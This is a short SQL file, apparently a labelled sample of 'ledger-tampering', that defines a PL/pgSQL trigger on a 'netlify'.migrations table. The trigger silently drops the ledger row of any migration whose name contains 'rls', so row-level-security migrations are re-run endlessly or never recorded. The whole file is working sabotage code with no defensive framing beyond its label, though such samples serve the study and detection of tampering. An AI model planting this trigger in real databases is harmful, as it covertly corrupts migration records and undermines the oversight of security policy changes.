-- class: ledger-tampering
-- A trigger on Netlify's ledger that silently drops the row of any later migration whose name contains "rls", so it is re-run forever or never recorded.
CREATE FUNCTION ledger_filter() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  IF NEW.name LIKE '%rls%' THEN
    RETURN NULL;
  END IF;
  RETURN NEW;
END
$$;

CREATE TRIGGER ledger_filter BEFORE INSERT ON "netlify".migrations FOR EACH ROW EXECUTE FUNCTION ledger_filter();
